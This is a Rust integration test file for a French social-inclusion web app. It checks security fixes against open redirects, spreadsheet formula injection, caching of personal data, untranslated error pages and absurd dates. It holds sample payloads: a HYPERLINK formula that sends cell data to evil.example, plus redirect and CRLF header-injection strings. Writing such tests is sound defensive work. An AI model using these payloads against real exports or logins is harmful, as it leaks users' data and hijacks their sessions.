//! The edges an attacker tried (« Integrity and privacy », findings 6, 7 and 9): the page after login, formulas
//! in exports, caching of personal data, and axum's own refusals, which must be French with a code.

use crate::pages::{login, page};
use crate::{Backend, TestApp, email};
use reqwest::StatusCode as S;
use reqwest::header::{CACHE_CONTROL, CONTENT_TYPE, COOKIE, LOCATION, SET_COOKIE};
use serde_json::{Value, json};
use std::collections::{BTreeSet, VecDeque};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")";

/// The login form's CSRF cookie and token.
async fn login_form(app: &TestApp, path: &str) -> (String, String, String) {
    let form = app.http.get(app.url(path)).send().await.unwrap();
    let cookie = form
        .headers()
        .get_all(SET_COOKIE)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .find_map(|v| v.strip_prefix("passerelle_login_csrf="))
        .map(|v| v.split(';').next().unwrap().to_owned())
        .unwrap();
    let html = form.text().await.unwrap();
    (cookie, crate::pages::csrf(&html), html)
}

/// Finding 6: after a correct login, `suite` sends the browser only to a path of this site; a control
/// character no longer makes a 500 after the session cookie is set.
async fn redirects(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let (_, _, html) = login_form(&app, "/connexion?suite=/%09/evil.example/x").await;
    assert!(
        html.contains("name=\"next\" value=\"/\""),
        "the bad suite is dropped from the form"
    );
    for next in [
        "/\t/evil.example/x",
        "/%09/evil.example/x",
        "/\u{1}x",
        "/\r\nSet-Cookie: x=y",
        "//evil.example",
        "/\\evil.example",
        "/%2F/evil.example",
        "https://evil.example/",
    ] {
        let (cookie, token, _) = login_form(&app, "/connexion").await;
        let r = app
            .http
            .post(app.url("/connexion"))
            .header(COOKIE, format!("passerelle_login_csrf={cookie}"))
            .form(&[
                ("csrf", token.as_str()),
                ("next", next),
                ("email", &email("ft-dijon")),
                ("password", crate::PASSWORD),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(
            (r.status(), &r.headers()[LOCATION]),
            (S::SEE_OTHER, &"/".parse().unwrap()),
            "{next:?}"
        );
    }
}

#[tokio::test]
async fn redirects_on_sqlite() {
    redirects(Backend::Sqlite).await;
}

#[tokio::test]
async fn redirects_on_postgres() {
    redirects(Backend::Postgres).await;
}

/// Finding 7: an offer titled with a formula comes out neutralised in the offers' CSV (page and API) and an
/// agreement titled so in the agreements' XLSX (quote prefix style) and CSV.
async fn exports(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let aci = app.token(&email("aci-jardins")).await;
    let aci_id = app.org_id("aci-jardins").await;
    let offer = json!({"siae_id": aci_id, "title": FORMULA, "place": "Dijon", "positions": 1});
    let (status, body) = app
        .call(&aci, reqwest::Method::POST, "/api/v1/offers", Some(offer))
        .await;
    assert_eq!(status, S::CREATED, "{body}");
    let session = login(&app, "ft-dijon").await;
    let (status, csv) = page(&app, &session, "/offres/export.csv").await;
    assert_eq!(status, S::OK);
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    assert!(!csv.contains("\"=HYPERLINK("), "{csv}");
    let api = app
        .http
        .get(app.url("/api/v1/offers/export"))
        .bearer_auth(&aci)
        .send()
        .await
        .unwrap();
    assert!(api.text().await.unwrap().contains("\"'=HYPERLINK("));

    let party = json!({"organisation_id": aci_id, "name": "Partie"});
    let draft = json!({"kind": "partnership", "content": {"title": FORMULA, "parties": [party]}});
    let (status, body) = app
        .call(&aci, reqwest::Method::POST, "/api/v1/agreements", Some(draft))
        .await;
    assert_eq!(status, S::CREATED, "{body}");
    let csv = app
        .http
        .get(app.url("/api/v1/agreements/export?format=csv"))
        .bearer_auth(&aci)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(csv.contains("\"'=HYPERLINK("), "{csv}");
    let book = app
        .http
        .get(app.url("/api/v1/agreements/export?format=xlsx"))
        .bearer_auth(&aci)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    // The formula-like title is shown with the quote prefix: read back from the sheet, its texts and styles.
    let quoted = passerelle_documents::readback::quoted_texts(&book);
    assert!(
        quoted.iter().any(|t| t.starts_with("=HYPERLINK(")),
        "the formula-like title has the quote-prefix style: {quoted:?}"
    );
}

#[tokio::test]
async fn exports_on_sqlite() {
    exports(Backend::Sqlite).await;
}

#[tokio::test]
async fn exports_on_postgres() {
    exports(Backend::Postgres).await;
}

fn no_store(r: &reqwest::Response) -> bool {
    r.headers().get(CACHE_CONTROL).is_some_and(|v| v == "no-store")
}

/// Finding 9: `Cache-Control: no-store` on every answer that may carry personal data: every operation of the
/// API (from its OpenAPI description), every page reachable from the home page of a signed-in user, the
/// shared skills record; the static assets keep their caching.
async fn caching(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ft = app.token(&email("ft-dijon")).await;
    let spec = app.openapi().await;
    let mut cached = Vec::new();
    for path in spec["paths"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(_, item)| item.get("get").is_some())
        .map(|(p, _)| p)
    {
        let concrete = path
            .replace("{id}", &uuid::Uuid::new_v4().to_string())
            .replace("{number}", "1");
        let r = app.http.get(app.url(&concrete)).bearer_auth(&ft).send().await.unwrap();
        if !no_store(&r) {
            cached.push(format!("{concrete} {}", r.status()));
        }
    }
    let (_, persons) = app.get(&ft, "/api/v1/persons").await;
    let person = persons["items"][0]["id"].as_str().unwrap().to_owned();
    for path in [
        format!("/api/v1/persons/{person}"),
        format!("/api/v1/persons/{person}/file?format=pdf"),
    ] {
        let r = app.http.get(app.url(&path)).bearer_auth(&ft).send().await.unwrap();
        if !no_store(&r) {
            cached.push(format!("{path} {}", r.status()));
        }
    }

    let session = login(&app, "ft-dijon").await;
    let mut seen = BTreeSet::from(["/".to_owned()]);
    let mut queue = VecDeque::from([
        "/".to_owned(),
        format!("/personnes/{person}"),
        "/carnet/inconnu".to_owned(),
        "/simulateur-public".to_owned(),
    ]);
    while let Some(page) = queue.pop_front() {
        let r = app
            .http
            .get(app.url(&page))
            .header(COOKIE, format!("passerelle_session={session}"))
            .send()
            .await
            .unwrap();
        if !no_store(&r) {
            cached.push(format!("{page} {}", r.status()));
        }
        let html = r.text().await.unwrap_or_default();
        for link in html.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next()) {
            let link = link.split('#').next().unwrap().replace("&amp;", "&");
            let local = link.starts_with('/') && !link.starts_with("//");
            let asset = link.starts_with("/dsfr/") || link.starts_with("/static/");
            if local && !asset && link != "/deconnexion" && seen.len() < 120 && seen.insert(link.clone()) {
                queue.push_back(link);
            }
        }
    }
    assert!(seen.len() > 20, "the crawl reached the pages: {seen:?}");
    assert!(cached.is_empty(), "answers without no-store: {cached:?}");

    let css = app.http.get(app.url("/static/passerelle.css")).send().await.unwrap();
    assert_eq!(css.status(), S::OK);
    assert!(!no_store(&css), "static assets stay cacheable");
}

#[tokio::test]
async fn caching_on_sqlite() {
    caching(Backend::Sqlite).await;
}

#[tokio::test]
async fn caching_on_postgres() {
    caching(Backend::Postgres).await;
}

/// The body of an answer as text, and whether it is the project's JSON error with `code`.
async fn json_error(r: reqwest::Response) -> (S, String, String) {
    let status = r.status();
    let body: Value = r.json().await.unwrap_or(Value::Null);
    (
        status,
        body["error"]["code"].as_str().unwrap_or("").to_owned(),
        body["error"]["message"].as_str().unwrap_or("").to_owned(),
    )
}

/// Every refusal of axum itself comes as the project's JSON error under `/api` and as the French error page
/// elsewhere: 413, 415, 400/422 on forms, queries, paths and JSON, 405.
async fn refusals(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let ft = app.token(&email("ft-dijon")).await;
    let big = "x".repeat(2 * 1024 * 1024);
    let english = [
        "Failed",
        "Expected",
        "Invalid",
        "missing field",
        "length limit",
        "UUID parsing",
    ];

    // The API.
    let mut answers = Vec::new();
    let post = |path: &str| app.http.post(app.url(path)).bearer_auth(&ft);
    answers.push((
        post("/api/v1/persons")
            .header(CONTENT_TYPE, "application/json")
            .body(big.clone()),
        S::PAYLOAD_TOO_LARGE,
        "body_too_large",
    ));
    answers.push((
        post("/api/v1/persons").body("{}"),
        S::UNSUPPORTED_MEDIA_TYPE,
        "unsupported_media_type",
    ));
    answers.push((
        post("/api/v1/persons").json(&json!({"first_name": 3})),
        S::BAD_REQUEST,
        "invalid_body",
    ));
    answers.push((
        app.http.get(app.url("/api/v1/persons/pas-un-uuid")).bearer_auth(&ft),
        S::BAD_REQUEST,
        "invalid_path",
    ));
    answers.push((
        app.http.get(app.url("/api/v1/persons?page=abc")).bearer_auth(&ft),
        S::BAD_REQUEST,
        "invalid_query",
    ));
    answers.push((
        app.http.delete(app.url("/api/v1/indicators")).bearer_auth(&ft),
        S::METHOD_NOT_ALLOWED,
        "method_not_allowed",
    ));
    for (request, status, code) in answers {
        let (got, got_code, message) = json_error(request.send().await.unwrap()).await;
        assert_eq!((got, got_code.as_str()), (status, code), "{message}");
        assert!(
            !message.is_empty() && !english.iter().any(|e| message.contains(e)),
            "{code}: {message}"
        );
    }

    // The pages: the French error page, never axum's English plain text.
    let session = login(&app, "ft-dijon").await;
    let page = |path: &str| {
        app.http
            .post(app.url(path))
            .header(COOKIE, format!("passerelle_session={session}"))
    };
    for (request, status, french) in [
        (
            page("/personnes").form(&[("nom", big.as_str())]),
            S::PAYLOAD_TOO_LARGE,
            "taille acceptée",
        ),
        (
            page("/personnes").json(&json!({})),
            S::UNSUPPORTED_MEDIA_TYPE,
            "type attendu",
        ),
        (
            page("/connexion").form(&[("email", "a@b.fr")]),
            S::UNPROCESSABLE_ENTITY,
            "le champ « csrf » manque",
        ),
        (
            app.http.put(app.url("/connexion")),
            S::METHOD_NOT_ALLOWED,
            "accepte pas cette méthode",
        ),
    ] {
        let r = request.send().await.unwrap();
        let got = r.status();
        let html_type = r
            .headers()
            .get(CONTENT_TYPE)
            .is_some_and(|v| v.to_str().unwrap().starts_with("text/html"));
        let html = r.text().await.unwrap();
        assert_eq!(got, status, "{html}");
        assert!(html_type && html.contains(french), "{status}: {html}");
        assert!(!english.iter().any(|e| html.contains(e)), "{status}: {html}");
    }

    // A form's address opened again after the form came back (the address bar shows it): its page, not a 405.
    let no_redirect = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    for (form, page) in [
        (
            "/reunions/0b6f7a2e-0000-4000-8000-000000000000/annulation",
            "/reunions/0b6f7a2e-0000-4000-8000-000000000000",
        ),
        ("/deconnexion", "/"),
    ] {
        let r = no_redirect
            .get(app.url(form))
            .header(COOKIE, format!("passerelle_session={session}"))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), S::SEE_OTHER, "{form}");
        assert_eq!(r.headers()[LOCATION], page, "{form}");
    }
}

#[tokio::test]
async fn refusals_on_sqlite() {
    refusals(Backend::Sqlite).await;
}

#[tokio::test]
async fn refusals_on_postgres() {
    refusals(Backend::Postgres).await;
}

/// Finding 9: the attacker's dates are refused through the API with a stable code and nothing is stored:
/// offers dated 0000-01-01 or 9999-12-31, an action from year -9999, a birth date in 9999; and an agreement
/// ending in 2101 or acted on in 9999.
async fn implausible_dates(backend: Backend) {
    let app = TestApp::spawn(backend).await;
    let aci = app.token(&email("aci-jardins")).await;
    let aci_id = app.org_id("aci-jardins").await;
    let (_, persons) = app.get(&aci, "/api/v1/persons").await;
    let person = persons["items"][0]["id"].as_str().unwrap().to_owned();
    let offer = |field: &str, day: &str| {
        let mut o = json!({"siae_id": aci_id, "title": "Agent", "place": "Dijon", "positions": 1});
        o[field] = day.into();
        o
    };
    let action = json!({"organisation_id": aci_id, "kind": "social", "title": "Atelier", "starts_on": "-9999-01-01"});
    let party = json!({"organisation_id": aci_id, "name": "Partie"});
    let draft = json!({"kind": "partnership", "content": {"title": "Convention", "parties": [party]}});
    let (status, draft) = app
        .call(&aci, reqwest::Method::POST, "/api/v1/agreements", Some(draft))
        .await;
    assert_eq!(status, S::CREATED, "{draft}");
    let far = json!({"kind": "partnership", "content": {"title": "Convention", "parties": [party],
        "duration": {"starts_on": "2026-01-01", "ends_on": "2101-01-01"}}});
    let before = app.snapshot().await;
    for (path, body, code, field) in [
        (
            "/api/v1/offers".to_owned(),
            offer("starts_on", "0000-01-01"),
            "date_out_of_range",
            "starts_on",
        ),
        (
            "/api/v1/offers".to_owned(),
            offer("ends_on", "9999-12-31"),
            "date_out_of_range",
            "ends_on",
        ),
        (
            format!("/api/v1/persons/{person}/actions"),
            action,
            "date_out_of_range",
            "starts_on",
        ),
        (
            "/api/v1/persons".to_owned(),
            json!({"first_name": "Anne", "last_name": "Test", "birth_date": "9999-01-01"}),
            "birth_date_invalid",
            "birth_date",
        ),
        ("/api/v1/agreements".to_owned(), far, "date_out_of_range", "duration"),
        (
            format!("/api/v1/agreements/{}/actions", draft["id"].as_str().unwrap()),
            json!({"action": "submit", "on": "9999-12-31"}),
            "date_out_of_range",
            "on",
        ),
    ] {
        let (status, answer) = app.call(&aci, reqwest::Method::POST, &path, Some(body)).await;
        assert_eq!(
            (
                status,
                answer["error"]["code"].as_str(),
                answer["error"]["field"].as_str()
            ),
            (S::UNPROCESSABLE_ENTITY, Some(code), Some(field)),
            "{path}: {answer}"
        );
    }
    assert_eq!(app.snapshot().await, before, "nothing was stored");
}

#[tokio::test]
async fn implausible_dates_on_sqlite() {
    implausible_dates(Backend::Sqlite).await;
}

#[tokio::test]
async fn implausible_dates_on_postgres() {
    implausible_dates(Backend::Postgres).await;
}
